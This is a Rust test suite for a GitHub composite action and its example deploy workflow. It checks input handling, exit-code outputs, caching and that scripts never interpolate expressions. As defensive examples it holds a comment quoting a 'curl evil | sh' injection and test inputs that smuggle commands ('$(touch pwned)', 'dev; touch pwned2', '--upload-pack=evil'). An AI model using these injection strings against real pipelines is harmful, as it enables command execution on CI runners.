//! The GitHub Action (`action.yml`) and the example workflow
//! (`examples/github/deploy.yml`).
//!
//! actionlint checks the workflow (scripts/test runs it) but does not understand action
//! metadata, so this file checks the action itself: its shape, the rule that no `${{ }}`
//! expression is ever interpolated into a script, and, by running the plan and apply
//! scripts with bash against a stub `lade`, that exit codes become outputs the way the
//! README says.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn load(path: &str) -> Value {
    let text = std::fs::read_to_string(root().join(path)).expect("read the YAML file");
    serde_saphyr::from_str::<Value>(&text).unwrap_or_else(|e| panic!("{path} is not YAML: {e}"))
}

fn action() -> Value {
    load("action.yml")
}

fn workflow() -> Value {
    load("examples/github/deploy.yml")
}

fn steps(action: &Value) -> &Vec<Value> {
    action["runs"]["steps"]
        .as_array()
        .expect("runs.steps is a list")
}

fn step<'a>(action: &'a Value, id: &str) -> &'a Value {
    steps(action)
        .iter()
        .find(|s| s["id"] == id)
        .unwrap_or_else(|| panic!("action.yml has no step with id `{id}`"))
}

fn inputs(action: &Value) -> &serde_json::Map<String, Value> {
    action["inputs"].as_object().expect("inputs is a map")
}

/// Every script in the workflow: `run:` of each step, and `script:` of github-script.
fn workflow_scripts(workflow: &Value) -> Vec<(String, String)> {
    let mut scripts = Vec::new();
    for (job_name, job) in workflow["jobs"].as_object().expect("jobs is a map") {
        for (i, step) in job["steps"].as_array().expect("steps").iter().enumerate() {
            if let Some(run) = step["run"].as_str() {
                scripts.push((format!("jobs.{job_name}.steps[{i}].run"), run.to_string()));
            }
            let uses = step["uses"].as_str().unwrap_or_default();
            if uses.starts_with("actions/github-script@") {
                let script = step["with"]["script"]
                    .as_str()
                    .expect("github-script has script");
                scripts.push((
                    format!("jobs.{job_name}.steps[{i}].with.script"),
                    script.into(),
                ));
            }
        }
    }
    scripts
}

#[test]
fn the_action_is_composite_with_a_description_branding_and_its_outputs() {
    let action = action();
    assert_eq!(action["runs"]["using"], "composite");
    assert!(
        action["description"]
            .as_str()
            .is_some_and(|d| !d.is_empty())
    );
    assert!(action["branding"]["icon"].is_string() && action["branding"]["color"].is_string());

    let names: Vec<&str> = inputs(&action).keys().map(String::as_str).collect();
    assert_eq!(
        names,
        ["command", "file", "stage", "working-directory", "version"]
    );
    assert_eq!(action["inputs"]["command"]["required"], true);
    assert_eq!(action["inputs"]["file"]["default"], "lade.yaml");
    assert_eq!(action["inputs"]["working-directory"]["default"], ".");

    for output in ["has_changes", "api_url", "plan_markdown_file"] {
        let value = action["outputs"][output]["value"]
            .as_str()
            .unwrap_or_else(|| panic!("output `{output}` has no value"));
        // `${{ steps.ID.outputs.NAME }}`, and step ID's script writes NAME=.
        let inner = value
            .trim()
            .strip_prefix("${{")
            .and_then(|v| v.strip_suffix("}}"))
            .map(str::trim)
            .unwrap_or_else(|| panic!("output `{output}` is not one expression: {value}"));
        let mut parts = inner.split('.');
        assert_eq!(parts.next(), Some("steps"), "{value}");
        let id = parts.next().expect("a step id");
        assert_eq!(parts.next(), Some("outputs"), "{value}");
        let name = parts.next().expect("an output name");
        assert_eq!(name, output, "output `{output}` maps to a different name");
        let script = step(&action, id)["run"].as_str().expect("a run step");
        assert!(
            script.contains(&format!("echo \"{name}=")) && script.contains("$GITHUB_OUTPUT"),
            "step `{id}` never writes `{name}=` to $GITHUB_OUTPUT"
        );
    }
}

/// The injection rule: `${{ }}` is expanded by the runner before bash sees the script,
/// so an input holding `"; curl evil | sh; "` would run. Values go through `env:`.
#[test]
fn no_script_interpolates_an_expression() {
    let action = action();
    let mut run_steps = 0;
    for step in steps(&action) {
        if let Some(run) = step["run"].as_str() {
            run_steps += 1;
            assert!(
                !run.contains("${{"),
                "step `{}` interpolates an expression into its script:\n{run}",
                step["name"]
            );
        }
    }
    assert!(
        run_steps >= 4,
        "expected the prepare, install, plan and apply scripts"
    );

    let scripts = workflow_scripts(&workflow());
    assert!(scripts.iter().any(|(at, _)| at.ends_with("with.script")));
    for (at, script) in scripts {
        assert!(!script.contains("${{"), "{at} interpolates an expression");
    }
}

#[test]
fn every_input_reaches_the_scripts_through_env_and_every_env_var_is_used() {
    let action = action();
    for name in inputs(&action).keys() {
        let expression = format!("${{{{ inputs.{name} }}}}");
        let via_env = steps(&action).iter().any(|s| {
            s["run"].is_string()
                && s["env"]
                    .as_object()
                    .is_some_and(|env| env.values().any(|v| v == &Value::from(expression.as_str())))
        });
        assert!(via_env, "input `{name}` reaches no script through env:");
    }
    for step in steps(&action) {
        let (Some(run), Some(env)) = (step["run"].as_str(), step["env"].as_object()) else {
            continue;
        };
        for var in env.keys() {
            assert!(
                run.contains(&format!("${var}")) || run.contains(&format!("${{{var}")),
                "step `{}` sets {var} but its script never uses it",
                step["name"]
            );
        }
    }
}

#[test]
fn every_script_is_strict_bash_that_parses() {
    let action = action();
    for step in steps(&action) {
        let Some(run) = step["run"].as_str() else {
            continue;
        };
        assert_eq!(step["shell"], "bash", "step `{}`", step["name"]);
        assert!(
            run.starts_with("set -euo pipefail\n"),
            "step `{}` does not start with set -euo pipefail",
            step["name"]
        );
        let out = Command::new("bash")
            .args(["-n", "-c", run])
            .output()
            .expect("run bash -n");
        assert!(
            out.status.success(),
            "step `{}` is not valid bash: {}",
            step["name"],
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn lade_is_installed_locked_from_the_action_and_cached_by_os_ref_and_lockfile() {
    let action = action();
    let cache = steps(&action)
        .iter()
        .find(|s| {
            s["uses"]
                .as_str()
                .is_some_and(|u| u.starts_with("actions/cache@"))
        })
        .expect("a step uses actions/cache");
    assert_eq!(
        cache["with"]["key"],
        "${{ steps.prepare.outputs.cache-key }}"
    );
    let cache_id = cache["id"].as_str().expect("the cache step has an id");
    // The cached folder is the one cargo installs into.
    assert_eq!(cache["with"]["path"], "~/.lade-action/bin");
    let prepare = step(&action, "prepare")["run"].as_str().unwrap();
    assert!(prepare.contains("echo \"lade-root=$HOME/.lade-action\" >>\"$GITHUB_OUTPUT\""));

    let install = steps(&action)
        .iter()
        .find(|s| s["name"] == "Install lade")
        .expect("an install step");
    assert_eq!(
        install["if"],
        format!("steps.{cache_id}.outputs.cache-hit != 'true'")
    );
    let script = install["run"].as_str().unwrap();
    assert!(
        script.contains(
            "cargo install --locked --root \"$LADE_ROOT\" --path \"$GITHUB_ACTION_PATH\""
        )
    );
    assert!(script.contains("--git \"$repo_url\""));
}

// ---- Running the scripts ---------------------------------------------------------

/// What one step did.
struct Ran {
    ok: bool,
    stderr: String,
    outputs: BTreeMap<String, String>,
    summary: String,
    /// The stub lade's argument lists, one per call.
    calls: Vec<Vec<String>>,
    dir: tempfile::TempDir,
}

/// Runs step `id` of action.yml the way the runner does (`bash --noprofile --norc -eo
/// pipefail`), with the step's `env:` evaluated from `given` inputs (others take their
/// defaults) and a stub `lade` whose behaviour is the bash `stub` body (it sees the
/// arguments as "$@").
fn run_step(id: &str, given: &[(&str, &str)], stub: &str) -> Ran {
    let action = action();
    let step = step(&action, id);
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let lade_root = d.join("lade-root");
    std::fs::create_dir_all(lade_root.join("bin")).unwrap();
    std::fs::create_dir_all(d.join("workspace")).unwrap();
    std::fs::create_dir_all(d.join("runner-temp")).unwrap();
    let calls = d.join("calls");
    let lade = lade_root.join("bin/lade");
    std::fs::write(
        &lade,
        format!(
            "#!/usr/bin/env bash\nprintf '%s\\x1f' \"$@\" >>'{}'\nprintf '\\n' >>'{}'\n{stub}\n",
            calls.display(),
            calls.display()
        ),
    )
    .unwrap();
    make_executable(&lade);
    let (output, summary) = (d.join("output"), d.join("summary"));
    std::fs::write(&output, "").unwrap();
    std::fs::write(&summary, "").unwrap();

    let input = |name: &str| -> String {
        given
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.to_string())
            .or_else(|| action["inputs"][name]["default"].as_str().map(String::from))
            .unwrap_or_default()
    };
    let mut command = Command::new("bash");
    command
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().expect("a run step"))
        .current_dir(d.join("workspace"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", d)
        .env("RUNNER_TEMP", d.join("runner-temp"))
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("GITHUB_ACTION_PATH", root());
    for (name, value) in step["env"].as_object().into_iter().flatten() {
        let value = value.as_str().expect("env values are strings");
        let expression = value
            .trim()
            .strip_prefix("${{")
            .and_then(|v| v.strip_suffix("}}"))
            .map(str::trim)
            .unwrap_or_else(|| panic!("env {name} is not an expression: {value}"));
        let evaluated = match expression {
            e if e.starts_with("inputs.") => input(&e["inputs.".len()..]),
            "steps.prepare.outputs.lade-root" => lade_root.display().to_string(),
            "github.action_ref" => "v1".into(),
            "runner.os" => "Linux".into(),
            "runner.arch" => "X64".into(),
            other => panic!("this test does not know how to evaluate `{other}`"),
        };
        command.env(name, evaluated);
    }
    let out = command.output().expect("run bash");
    let outputs = std::fs::read_to_string(&output)
        .unwrap()
        .lines()
        .map(|l| {
            let (k, v) = l.split_once('=').expect("name=value");
            (k.to_string(), v.to_string())
        })
        .collect();
    let calls = std::fs::read_to_string(&calls)
        .unwrap_or_default()
        .lines()
        .map(|l| {
            l.split('\x1f')
                .filter(|a| !a.is_empty())
                .map(String::from)
                .collect()
        })
        .collect();
    Ran {
        ok: out.status.success(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        outputs,
        summary: std::fs::read_to_string(&summary).unwrap(),
        calls,
        dir,
    }
}

#[cfg(unix)]
fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

#[test]
fn plan_exit_2_means_changes_and_the_markdown_goes_to_the_summary_and_a_file() {
    let ran = run_step(
        "plan",
        &[("command", "plan"), ("stage", "dev")],
        "echo '## lade plan: 1 to create'; echo '<!-- body -->'; exit 2",
    );
    assert!(ran.ok, "{}", ran.stderr);
    assert_eq!(ran.outputs["has_changes"], "true");
    let file = PathBuf::from(&ran.outputs["plan_markdown_file"]);
    assert!(file.starts_with(ran.dir.path().join("runner-temp")));
    let markdown = std::fs::read_to_string(&file).unwrap();
    assert_eq!(markdown, "## lade plan: 1 to create\n<!-- body -->\n");
    assert!(ran.summary.contains(&markdown));
    assert_eq!(
        ran.calls,
        [args(&[
            "plan",
            "--detailed-exitcode",
            "--format",
            "markdown",
            "--file",
            "lade.yaml",
            "--stage",
            "dev"
        ])]
    );
}

#[test]
fn plan_exit_0_means_no_changes_and_no_stage_means_no_stage_flag() {
    let ran = run_step("plan", &[("command", "plan")], "echo 'No changes.'; exit 0");
    assert!(ran.ok, "{}", ran.stderr);
    assert_eq!(ran.outputs["has_changes"], "false");
    assert!(ran.summary.contains("No changes."));
    assert_eq!(
        ran.calls,
        [args(&[
            "plan",
            "--detailed-exitcode",
            "--format",
            "markdown",
            "--file",
            "lade.yaml"
        ])]
    );
}

#[test]
fn plan_errors_fail_the_step_without_outputs() {
    for code in [1, 3, 101] {
        let ran = run_step(
            "plan",
            &[("command", "plan")],
            &format!("echo 'error: bad manifest' >&2; exit {code}"),
        );
        assert!(!ran.ok, "exit {code} must fail the step");
        assert!(ran.outputs.is_empty(), "exit {code}: {:?}", ran.outputs);
        assert!(ran.summary.is_empty());
        assert!(ran.stderr.contains("error: bad manifest"));
    }
}

/// A mistyped input is a usage error of the real lade, which exits 1, never 2: the
/// step fails instead of reading as `has_changes=true` (issue 19). `--file --bogus`
/// and `--stage --bogus` are flags without their value to clap.
#[test]
fn a_usage_error_of_the_real_lade_fails_the_plan_step_instead_of_reading_as_changes() {
    // The real lade; its exit code is kept in $HOME/status.
    let real = format!(
        "'{}' \"$@\"; status=$?; echo \"$status\" >\"$HOME/status\"; exit \"$status\"",
        env!("CARGO_BIN_EXE_lade")
    );
    for (input, value) in [("file", "--bogus"), ("stage", "--bogus")] {
        let ran = run_step("plan", &[("command", "plan"), (input, value)], &real);
        assert!(
            !ran.ok,
            "{input}={value} must fail the step: {}",
            ran.stderr
        );
        assert!(ran.outputs.is_empty(), "{input}={value}: {:?}", ran.outputs);
        assert!(ran.summary.is_empty(), "{input}={value}: {}", ran.summary);
        assert!(
            ran.stderr.contains("error: "),
            "{input}={value}: {}",
            ran.stderr
        );
        let status = std::fs::read_to_string(ran.dir.path().join("status")).unwrap();
        assert_eq!(status.trim(), "1", "{input}={value}: {}", ran.stderr);
    }
}

#[test]
fn inputs_reach_lade_as_single_literal_arguments() {
    let ran = run_step(
        "plan",
        &[
            ("command", "plan"),
            ("file", "my app/lade $(touch pwned).yaml"),
            ("stage", "dev; touch pwned2"),
            ("working-directory", "."),
        ],
        "exit 0",
    );
    assert!(ran.ok, "{}", ran.stderr);
    assert_eq!(
        ran.calls[0][4..],
        args(&[
            "--file",
            "my app/lade $(touch pwned).yaml",
            "--stage",
            "dev; touch pwned2"
        ])
    );
    let workspace = ran.dir.path().join("workspace");
    assert!(!workspace.join("pwned").exists() && !workspace.join("pwned2").exists());
}

#[test]
fn working_directory_is_where_lade_runs() {
    let ran = run_step(
        "plan",
        &[("command", "plan"), ("working-directory", "does not exist")],
        "exit 0",
    );
    assert!(!ran.ok, "a missing working-directory must fail the step");
    assert!(ran.calls.is_empty());

    let ran = run_step(
        "plan",
        &[("command", "plan"), ("working-directory", "..")],
        "pwd >\"$HOME/cwd\"; exit 0",
    );
    assert!(ran.ok, "{}", ran.stderr);
    let cwd = std::fs::read_to_string(ran.dir.path().join("cwd")).unwrap();
    assert_eq!(
        Path::new(cwd.trim()).canonicalize().unwrap(),
        ran.dir.path().canonicalize().unwrap()
    );
}

/// The action parses `lade outputs --json` with jq, as GitHub's runners have it; so
/// must the machine that tests it (never a silent skip).
fn require_jq() {
    let found = Command::new("jq").arg("--version").output().is_ok();
    assert!(
        found,
        "jq is needed to test the action (apt-get install jq)"
    );
}

const OUTPUTS: &str = r#"{"api": {"id": "abc123", "url": "https://abc123.execute-api.us-east-1.amazonaws.com/prod", "stage": "prod", "deployed": true, "routes": [{"method": "GET", "path": "/items", "url": "https://abc123.execute-api.us-east-1.amazonaws.com/prod/items"}]}}"#;

#[test]
fn apply_applies_without_asking_then_sets_api_url_and_summarises_the_routes() {
    require_jq();
    let stub = format!(
        "case \"$1\" in apply) echo applied ;; outputs) cat <<'JSON'\n{OUTPUTS}\nJSON\n;; *) exit 9 ;; esac"
    );
    let ran = run_step("apply", &[("command", "apply"), ("stage", "prod")], &stub);
    assert!(ran.ok, "{}", ran.stderr);
    assert_eq!(
        ran.calls,
        [
            args(&["apply", "--yes", "--file", "lade.yaml", "--stage", "prod"]),
            args(&[
                "outputs",
                "--json",
                "--file",
                "lade.yaml",
                "--stage",
                "prod"
            ]),
        ]
    );
    let url = "https://abc123.execute-api.us-east-1.amazonaws.com/prod";
    assert_eq!(ran.outputs["api_url"], url);
    assert!(
        ran.summary.contains(&format!("API: {url}")),
        "{}",
        ran.summary
    );
    assert!(
        ran.summary
            .contains(&format!("| GET | `/items` | {url}/items |")),
        "{}",
        ran.summary
    );
}

#[test]
fn apply_without_an_api_sets_an_empty_api_url() {
    require_jq();
    let stub = r#"case "$1" in outputs) echo '{"api": null}' ;; esac"#;
    let ran = run_step("apply", &[("command", "apply")], stub);
    assert!(ran.ok, "{}", ran.stderr);
    assert_eq!(ran.outputs.get("api_url").map(String::as_str), Some(""));
    assert!(ran.summary.contains("No API."), "{}", ran.summary);
}

#[test]
fn a_failed_apply_fails_the_step_and_reads_no_outputs() {
    let ran = run_step(
        "apply",
        &[("command", "apply")],
        r#"case "$1" in apply) exit 1 ;; outputs) echo '{"api": null}' ;; esac"#,
    );
    assert!(!ran.ok);
    assert_eq!(ran.calls.len(), 1, "{:?}", ran.calls);
    assert!(ran.outputs.is_empty() && ran.summary.is_empty());
}

#[test]
fn prepare_checks_the_inputs_and_keys_the_cache_on_os_ref_lockfile_or_version() {
    for (command, version) in [
        ("destroy", ""),
        ("plan", "--upload-pack=evil"),
        ("apply", "v1 x"),
    ] {
        let ran = run_step(
            "prepare",
            &[("command", command), ("version", version)],
            "exit 99",
        );
        assert!(!ran.ok, "command={command:?} version={version:?} must fail");
        assert!(ran.outputs.is_empty());
    }

    use sha2::Digest as _;
    let lock = std::fs::read(root().join("Cargo.lock")).unwrap();
    let lock_hash: String = sha2::Sha256::digest(&lock)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let ran = run_step("prepare", &[("command", "plan")], "exit 99");
    assert!(ran.ok, "{}", ran.stderr);
    let key = &ran.outputs["cache-key"];
    assert!(key.starts_with("lade-Linux-X64-"), "{key}");
    assert!(
        key.contains(&format!("-ref-v1-lock-{}-src-", &lock_hash[..16])),
        "{key}"
    );

    let ran = run_step(
        "prepare",
        &[("command", "apply"), ("version", "v0.2.0")],
        "exit 99",
    );
    assert!(ran.ok, "{}", ran.stderr);
    assert!(ran.outputs["cache-key"].ends_with("-version-v0.2.0"));
}

// ---- The example workflow --------------------------------------------------------

#[test]
fn the_example_uses_only_inputs_and_outputs_the_action_declares() {
    let action = action();
    let workflow = workflow();
    let mut uses_of_the_action = 0;
    for (job_name, job) in workflow["jobs"].as_object().unwrap() {
        let job_steps = job["steps"].as_array().unwrap();
        for step in job_steps.iter().filter(|s| s["uses"] == "./") {
            uses_of_the_action += 1;
            let with = step["with"].as_object().expect("the action needs `with:`");
            for key in with.keys() {
                assert!(
                    inputs(&action).contains_key(key),
                    "{job_name}: input `{key}` is not declared in action.yml"
                );
            }
            assert!(
                with.contains_key("command"),
                "{job_name}: command is required"
            );
            // Every `steps.ID.outputs.NAME` that refers to this step names a declared output.
            let id = step["id"].as_str().expect("the action step has an id");
            let prefix = format!("steps.{id}.outputs.");
            let text = serde_json::to_string(job).unwrap();
            for (at, _) in text.match_indices(&prefix) {
                let name: String = text[at + prefix.len()..]
                    .chars()
                    .take_while(|c| c.is_alphanumeric() || *c == '_' || *c == '-')
                    .collect();
                assert!(
                    action["outputs"][&name].is_object(),
                    "{job_name}: output `{name}` is not declared in action.yml"
                );
            }
        }
    }
    assert_eq!(uses_of_the_action, 2, "one plan step and one apply step");
}

#[test]
fn the_example_plans_on_pull_requests_and_applies_main_one_at_a_time() {
    let workflow = workflow();
    assert!(
        workflow["on"]
            .as_object()
            .unwrap()
            .contains_key("pull_request")
    );
    assert_eq!(
        workflow["on"]["push"]["branches"],
        serde_json::json!(["main"])
    );

    let plan = &workflow["jobs"]["plan"];
    let apply = &workflow["jobs"]["apply"];
    for job in [plan, apply] {
        assert_eq!(job["permissions"]["id-token"], "write");
        assert_eq!(job["permissions"]["contents"], "read");
        let creds = job["steps"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| {
                s["uses"]
                    .as_str()
                    .is_some_and(|u| u.starts_with("aws-actions/configure-aws-credentials@v4"))
            })
            .expect("credentials through configure-aws-credentials");
        assert!(
            creds["with"]["role-to-assume"]
                .as_str()
                .unwrap()
                .contains("secrets.")
        );
        assert!(creds["with"]["aws-region"].is_string());
    }
    assert_eq!(plan["permissions"]["pull-requests"], "write");
    assert!(apply["permissions"]["pull-requests"].is_null());

    // Applies of a stage queue up; one is never cancelled halfway.
    assert_eq!(apply["concurrency"]["cancel-in-progress"], false);
    assert!(
        apply["concurrency"]["group"]
            .as_str()
            .unwrap()
            .contains("apply")
    );

    // After the apply, a smoke test invokes the deployed function (`lade invoke`),
    // whose exit 1 on a function error fails the job.
    let steps = apply["steps"].as_array().unwrap();
    let applied = steps.iter().position(|s| s["id"] == "apply").unwrap();
    let smoke = steps
        .iter()
        .position(|s| {
            s["run"]
                .as_str()
                .is_some_and(|run| run.contains("lade invoke ") && !run.contains("--local"))
        })
        .expect("the apply job smoke-tests the deployed function with `lade invoke`");
    assert!(smoke > applied, "the smoke test runs after the apply");

    let (_, comment) = workflow_scripts(&workflow)
        .into_iter()
        .find(|(at, _)| at.starts_with("jobs.plan") && at.ends_with("with.script"))
        .expect("the plan job comments with github-script");
    for needle in [
        "<!-- lade-plan -->",
        "process.env.PLAN_FILE",
        "updateComment",
        "createComment",
        "paginate",
    ] {
        assert!(
            comment.contains(needle),
            "the comment script lacks {needle}"
        );
    }
}
